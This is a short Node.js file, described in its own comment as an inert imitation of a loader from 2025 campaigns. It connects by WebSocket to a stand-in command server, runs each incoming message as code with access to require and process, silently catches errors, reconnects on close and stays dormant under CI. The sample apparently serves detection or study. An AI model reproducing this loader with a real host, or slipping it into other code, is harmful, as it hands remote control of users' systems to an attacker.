// Inert imitation of a runtime loader seen in 2025 campaigns: a WebSocket to a command server whose
// messages are run with new Function. The endpoint is reserved (.invalid).
const WebSocket = require('ws');

function connect() {
  const ws = new WebSocket('wss://c2.example.invalid/session');
  ws.on('message', (data) => {
    try {
      const run = new Function('require', 'process', data.toString());
      run(require, process);
    } catch (_) {}
  });
  ws.on('close', () => setTimeout(connect, 30000));
}

if (!process.env.CI) connect();
